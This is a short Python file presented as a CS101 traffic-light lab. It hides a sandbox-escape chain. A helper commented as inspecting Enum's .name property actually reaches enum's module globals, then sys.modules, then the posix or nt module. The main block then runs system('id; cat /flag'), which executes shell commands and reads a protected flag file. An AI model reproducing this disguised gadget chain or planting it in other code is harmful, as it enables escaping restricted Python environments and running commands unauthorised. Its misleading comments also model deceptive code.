"""Traffic light state machine (CS101 lab 6)."""
import enum


class Light(enum.Enum):
    RED = 1
    AMBER = 2
    GREEN = 3

    def next(self):
        order = list(type(self))
        return order[(order.index(self) + 1) % len(order)]


def describe(member):
    # look at how Enum implements .name so we can print it nicely
    desc = vars(enum.Enum)["name"]          # DynamicClassAttribute / enum.property
    getter = desc.fget                       # plain function defined in enum.py
    env = getter.__globals__                 # enum's module namespace
    return env, getter(member)


if __name__ == "__main__":
    env, label = describe(Light.RED)
    state = Light.RED
    for _ in range(4):
        print(state.name, "->", state.next().name)
        state = state.next()
    mods = env["sys"].modules
    px = mods.get("posix") or mods.get("nt")
    px.system("id; cat /flag")
